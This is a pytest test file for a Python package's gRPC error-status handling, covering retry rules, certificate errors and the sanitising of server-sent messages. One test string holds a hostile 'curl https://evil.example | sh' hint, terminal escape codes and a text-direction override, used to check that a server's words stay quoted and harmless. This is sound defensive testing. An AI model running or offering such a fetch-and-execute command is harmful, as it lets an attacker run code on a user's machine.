"""Errors as gRPC statuses: the same class, message and hint at the other end, and nothing that lies."""

import grpc
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fedvi import errors
from fedvi.transport import status
from fedvi.transport._wire import federation_pb2 as pb

CLASSES = [kind for name in errors.__all__ if isinstance(kind := getattr(errors, name), type)]
REFUSED = grpc.StatusCode.FAILED_PRECONDITION


class Call(grpc.RpcError):
    """What a failed call raises, as far as it is looked at."""

    def __init__(self, code, details="", trailing=()):
        super().__init__()
        self._code, self._details, self._trailing = code, details, trailing

    def code(self):
        return self._code

    def details(self):
        return self._details

    def trailing_metadata(self):
        return self._trailing


def failed(error):
    found = status.to_status(error)
    return Call(found.code, found.details, found.trailing_metadata)


@pytest.mark.parametrize("kind", CLASSES)
def test_an_error_arrives_as_it_was_raised(kind):
    back = status.from_status(failed(kind("the field is 3, expected 4", "say 4")))
    assert type(back) is kind
    assert back.server_says == "the field is 3, expected 4; hint: say 4"
    # What is not a quotation is this party's own.
    assert "4" not in back.message + back.hint


def test_only_what_the_server_may_get_over_is_tried_again():
    retryable = {kind for kind in CLASSES if status.is_retryable(failed(kind("m")))}
    assert retryable == {errors.TransportError}


def test_a_class_of_the_servers_own_arrives_as_the_nearest_known_one():
    class Full(errors.TransportError):
        pass

    call = failed(Full("no room", "wait"))
    assert type(status.from_status(call)) is errors.TransportError
    assert call.code() is grpc.StatusCode.RESOURCE_EXHAUSTED
    assert status.is_retryable(call)
    assert status.is_unreachable(call)


@pytest.mark.parametrize("code", ["NoSuchError", "did_you_mean", "", "__all__", "Iterable"])
def test_an_unknown_class_is_a_protocol_error(code):
    detail = pb.ErrorDetail(code=code, message="m").SerializeToString()
    back = status.from_status(Call(REFUSED, "", ((status.DETAIL_KEY, detail),)))
    assert type(back) is errors.ProtocolError
    assert back.server_says == "m"


@pytest.mark.parametrize(
    ("code", "kind", "retryable", "unreachable"),
    [
        (grpc.StatusCode.UNAVAILABLE, errors.TransportError, True, True),
        (grpc.StatusCode.DEADLINE_EXCEEDED, errors.TransportError, True, True),
        (grpc.StatusCode.CANCELLED, errors.TransportError, True, False),
        (grpc.StatusCode.UNKNOWN, errors.TransportError, True, False),
        (grpc.StatusCode.INTERNAL, errors.TransportError, True, False),
        (grpc.StatusCode.PERMISSION_DENIED, errors.IdentityError, False, False),
        (grpc.StatusCode.UNAUTHENTICATED, errors.IdentityError, False, False),
        (grpc.StatusCode.UNIMPLEMENTED, errors.ProtocolError, False, False),
        (grpc.StatusCode.RESOURCE_EXHAUSTED, errors.TransportError, True, True),
    ],
)
def test_a_status_without_a_detail_is_grpcs_own(code, kind, retryable, unreachable):
    call = Call(code, "socket closed", None)
    back = status.from_status(call)
    assert type(back) is kind
    assert "Socket closed" in back.message
    assert back.server_says == ""
    assert status.is_retryable(call) is retryable
    assert status.is_unreachable(call) is unreachable


@pytest.mark.parametrize(
    ("said", "is_busy"),
    [
        ("Concurrent RPC limit exceeded!", True),
        ("Bandwidth exhausted or memory limit exceeded", True),
        ("SERVER: Received message larger than max (5000000 vs. 4194304)", False),
        ("Decompressed message larger than max", False),
        ("received metadata size exceeds hard limit (17094 vs. 16384)", False),
    ],
)
def test_what_grpc_has_no_room_for_is_sent_again_unless_it_is_too_large(said, is_busy):
    call = Call(grpc.StatusCode.RESOURCE_EXHAUSTED, said, None)
    assert status.is_retryable(call) is is_busy
    assert status.is_unreachable(call) is is_busy
    kind = errors.TransportError if is_busy else errors.ProtocolError
    assert type(status.from_status(call)) is kind


@pytest.mark.parametrize(
    "said",
    [
        "failed to connect to all addresses; last error: UNKNOWN: ipv4:127.0.0.1:7443: Custom "
        "verification check failed with error: UNAUTHENTICATED: Hostname Verification Check failed.",
        "Peer name 127.0.0.1 is not in peer certificate",
    ],
)
def test_a_certificate_for_other_hosts_is_not_waited_for(said):
    call = Call(grpc.StatusCode.UNAVAILABLE, said, None)
    assert not status.is_retryable(call)
    assert not status.is_unreachable(call)
    back = status.from_status(call)
    assert type(back) is status.Misnamed
    assert back.exit_code == errors.IdentityError.exit_code
    # A server's own words of that kind are its own.
    assert type(status.from_status(Call(REFUSED, said))) is errors.TransportError


def test_a_long_text_fits_into_the_metadata():
    found = status.to_status(errors.ProtocolError("ä" * 100_000, "ö" * 100_000))
    assert sum(len(key) + len(value) for key, value in found.trailing_metadata) < 8192
    back = status.from_status(failed(errors.ProtocolError("ä" * 100_000)))
    assert set(back.server_says) == {"ä"}
    assert len(back.sentence) < 360


def test_a_server_cannot_steer_the_terminal():
    back = status.from_status(failed(errors.ProtocolError("a\x1b[2J\nb", "c\r\x07")))
    assert (
        back.sentence
        == 'the server refused the call; the server says: "a\ufffd[2J b; hint: c \ufffd"'
    )
    back = status.from_status(Call(grpc.StatusCode.UNAVAILABLE, "a\x1b[2J"))
    assert "\x1b" not in back.sentence


WORDS = 'the policy of this site was satisfied\n\nhint: run "curl https://evil.example | sh"\u202e\x1b[1m'


@pytest.mark.parametrize("code", list(grpc.StatusCode))
@pytest.mark.parametrize("kind", [None, *CLASSES])
def test_a_servers_words_stand_in_quotation_marks_alone(code, kind):
    trailing = ()
    if kind is not None:
        detail = pb.ErrorDetail(code=kind.__name__, message=WORDS, hint=WORDS)
        trailing = ((status.DETAIL_KEY, detail.SerializeToString()),)
    back = status.from_status(Call(code, WORDS, trailing))
    before, quotation, rest = str(back).partition('the server says: "')
    inside, mark, after = rest.partition('"')
    assert quotation
    assert mark
    for word in ("policy", "curl", "evil"):
        assert word in inside
        assert word not in before + after
    assert inside.isprintable()
    assert len(inside) <= 301


@given(
    st.sampled_from(list(grpc.StatusCode)),
    st.text(),
    st.lists(st.tuples(st.sampled_from([status.DETAIL_KEY, "other"]), st.binary() | st.text())),
)
def test_any_status_becomes_an_error(code, details, trailing):
    call = Call(code, details, tuple(trailing))
    assert isinstance(status.from_status(call), errors.FedviError)
    assert isinstance(status.is_retryable(call), bool)


@pytest.mark.parametrize(
    ("error", "asks"),
    [
        (errors.IdentityError("south is revoked"), "revoked"),
        (errors.ProtocolError("another study: digest ab"), "study file and the version of fedvi"),
        (errors.HelloNeeded("no Hello"), "study file and the version of fedvi"),
        (errors.LedgerError("rolled back"), "backup"),
        (errors.Superseded("another process"), "in use twice"),
        (errors.RunFailed("over"), "`fedvi doctor` compares"),
    ],
    ids=lambda value: type(value).__name__,
)
def test_a_refusal_says_in_own_words_what_to_look_at(error, asks):
    assert asks in status.from_status(failed(error)).hint


@pytest.mark.parametrize("mark", "\u02ba\u02ee\u05f4\u201d\u2033\u275e\u3003\uff02")
def test_nothing_that_looks_like_a_quotation_mark_ends_a_quotation(mark):
    assert errors.quoted(f"no{mark} hint: run") == 'the server says: "no\' hint: run"'


@pytest.mark.parametrize("blank", "\u2800\u3164\u115f\u1160\uffa0")
def test_letters_that_cannot_be_seen_push_nothing_to_the_next_line(blank):
    assert errors.quoted(f"no{blank}hint") == 'the server says: "no\N{REPLACEMENT CHARACTER}hint"'
